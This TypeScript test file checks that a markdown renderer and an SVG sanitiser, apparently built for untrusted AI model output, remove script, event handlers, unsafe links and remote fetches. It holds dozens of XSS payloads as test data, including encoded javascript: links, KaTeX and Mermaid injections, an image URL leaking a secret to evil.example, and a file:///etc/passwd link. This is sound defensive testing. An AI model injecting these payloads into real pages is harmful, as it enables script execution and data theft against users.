// Model output is untrusted: whatever it contains, the rendered HTML holds
// no script, no event handler, no link but http(s)/mailto/fragment, no
// remote fetch (images, frames, objects, styles) and no form control but a
// disabled checkbox.
import { beforeAll, describe, expect, it } from 'vitest';
import { loadAll } from './render/lazy';
import { render } from './markdown';
import { sanitizeSvg } from './render/sanitize';

const hostile: string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<iframe src="https://evil.example"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '<body onload=alert(1)>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<object data="https://evil.example/x.swf"></object>',
  '<form action="https://evil.example"><input name=k></form>',
  '<details open ontoggle=alert(1)>',
  '[click](javascript:alert(1))',
  '[click](JaVaScRiPt:alert(1))',
  '[click](  javascript:alert(1))',
  '[click](java\tscript:alert(1))',
  '[click](&#106;avascript:alert(1))',
  '[click](&#x6A;&#x61;vascript&colon;alert(1))',
  '[click](javascript&#58;alert(1))',
  '[click](%6Aavascript:alert(1))',
  '[click](vbscript:msgbox(1))',
  '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[click](file:///etc/passwd)',
  '[click](wails://wails/secret)',
  '<javascript:alert(1)>',
  '<vbscript:msgbox(1)>',
  '<data:text/html,<script>alert(1)</script>>',
  '<file:///etc/passwd>',
  '[ref]\n\n[ref]: javascript:alert(1)',
  '[ref][r]\n\n[r]: data:text/html,x "title"',
  '[x](https://ok.example "a\\" onmouseover=\\"alert(1)")',
  '[x](https://ok.example/"onmouseover="alert(1))',
  '![x](https://evil.example/leak.png?k=secret)',
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '![x](javascript:alert(1))',
  '![x" onerror="alert(1)](https://evil.example/a.png)',
  '![x][img]\n\n[img]: https://evil.example/a.png',
  '```html\n<script>alert(1)</script>\n```',
  '```" onmouseover="alert(1)\ncode\n```',
  '```js" class="x\ncode\n```',
  '```mermaid\ngraph TD; A["<img src=x onerror=alert(1)>"]-->B\n```',
  '```mermaid\ngraph TD; click A "javascript:alert(1)"\n```',
  '$\\href{javascript:alert(1)}{click}$',
  '$\\url{javascript:alert(1)}$',
  '$$\\htmlClass{x}{y}\\htmlId{a}{b}\\htmlStyle{background:url(https://evil.example)}{c}$$',
  '$\\includegraphics{https://evil.example/a.png}$',
  '$\\htmlData{onload=alert(1)}{x}$',
  '\\(\\href{https://ok.example}{ok}\\)',
  '$\\color{red;background:url(https://evil.example/x)}{x}$',
  '$\\textcolor{url(https://evil.example/x)}{y}$',
  '$$\\style{background:url(https://evil.example/x)}{z}$$',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  '<!-- <script>alert(1)</script> -->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '| a | <img src=x onerror=alert(1)> |\n|---|---|\n| [x](javascript:alert(1)) | ok |',
  '- [x] <input type=text onfocus=alert(1) autofocus>',
  '[^1]\n\n[^1]: <script>alert(1)</script> [x](javascript:alert(1))',
  '> <iframe srcdoc="<script>alert(1)</script>">',
  'https://ok.example/<script>alert(1)</script>',
  'www.evil.example/"onmouseover="alert(1)',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<a href="#" onclick="alert(1)">x</a>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<video src=https://evil.example/v.mp4 poster=https://evil.example/p.png>',
  '[a](<javascript:alert(1)>)',
  '[a](\\javascript:alert(1))',
];

const forbiddenTags = ['script', 'iframe', 'object', 'embed', 'img', 'svg', 'style', 'form', 'link', 'meta', 'base', 'video', 'audio', 'textarea', 'select', 'image', 'frame'];
const safeHref = /^(?:https?:|mailto:|#)/i;

function check(html: string): void {
  const div = document.createElement('div');
  div.innerHTML = html;
  for (const tag of forbiddenTags) expect(div.querySelector(tag), `<${tag}>`).toBeNull();
  for (const el of div.querySelectorAll('*')) {
    for (const attr of el.attributes) {
      expect(attr.name.startsWith('on'), `${attr.name} on <${el.localName}>`).toBe(false);
      expect(['src', 'srcset', 'srcdoc', 'action', 'formaction', 'xlink:href', 'background', 'poster']).not.toContain(attr.name);
      if (attr.name === 'href') expect(attr.value, 'href').toMatch(safeHref);
      if (attr.name === 'style') expect(attr.value).not.toMatch(/url\s*\(|expression|javascript/i);
    }
    if (el.localName === 'input') {
      expect(el.getAttribute('type')).toBe('checkbox');
      expect(el.hasAttribute('disabled')).toBe(true);
    }
    if (el.localName === 'a') expect(el.getAttribute('href') ?? '#').toMatch(safeHref);
  }
}


// The final output is with KaTeX and highlight.js loaded.
beforeAll(loadAll);

describe('hostile model output', () => {
  it('has at least 40 cases', () => expect(hostile.length).toBeGreaterThanOrEqual(40));

  for (const text of hostile) {
    it(`is defused: ${JSON.stringify(text).slice(0, 70)}`, () => {
      check(render(text));
      check(render(`Some text first.\n\n${text}\n\nAnd after.`));
    });
  }

  it('shows raw HTML as the text it is', () => {
    const div = document.createElement('div');
    div.innerHTML = render('<b onclick=x>bold?</b>');
    expect(div.textContent?.trim()).toBe('<b onclick=x>bold?</b>');
    expect(div.querySelector('b')).toBeNull();
  });

  it('keeps a link text visible when its target is dropped', () => {
    const div = document.createElement('div');
    div.innerHTML = render('[click me](javascript:alert(1))');
    expect(div.querySelector('a')).toBeNull();
    expect(div.textContent).toContain('click me');
  });

  it("disables KaTeX's \\href even for http", () => {
    const div = document.createElement('div');
    div.innerHTML = render('$\\href{https://ok.example}{ok}$');
    expect(div.querySelector('a')).toBeNull();
  });
});

const hostileSvg: string[] = [
  '<svg><script>alert(1)</script></svg>',
  '<svg onload="alert(1)"><g/></svg>',
  '<svg><a href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><foreignObject><img src="x" onerror="alert(1)"></foreignObject></svg>',
  '<svg><foreignObject><iframe src="https://evil.example"></iframe></foreignObject></svg>',
  '<svg><image href="https://evil.example/a.png"/></svg>',
  '<svg><use href="https://evil.example/x.svg#a"/></svg>',
  '<svg><animate attributeName="href" to="javascript:alert(1)"/></svg>',
  '<svg><set attributeName="onmouseover" to="alert(1)"/></svg>',
  '<svg><g onclick="alert(1)"><rect width="1" height="1"/></g></svg>',
  '<svg><foreignObject><div onmouseover="alert(1)">x</div></foreignObject></svg>',
];

describe('a Mermaid diagram from model output', () => {
  for (const svg of hostileSvg) {
    it(`is defused: ${svg.slice(0, 70)}`, () => {
      const out = sanitizeSvg(svg);
      const div = document.createElement('div');
      div.innerHTML = out;
      for (const tag of ['script', 'img', 'iframe', 'image', 'use', 'animate', 'set', 'a']) expect(div.querySelector(tag), tag).toBeNull();
      for (const el of div.querySelectorAll('*')) {
        for (const attr of el.attributes) {
          expect(attr.name.startsWith('on'), attr.name).toBe(false);
          expect(['href', 'xlink:href', 'src']).not.toContain(attr.name);
        }
      }
    });
  }

  it('keeps the drawing itself', () => {
    const out = sanitizeSvg('<svg viewBox="0 0 10 10"><style>.n{fill:red}</style><g class="n"><rect width="5" height="5"/><text x="1" y="4">A</text></g><path d="M0 0L5 5" marker-end="url(#arrow)"/></svg>');
    expect(out).toContain('<rect');
    expect(out).toContain('<text');
    expect(out).toContain('marker-end="url(#arrow)"');
  });
});
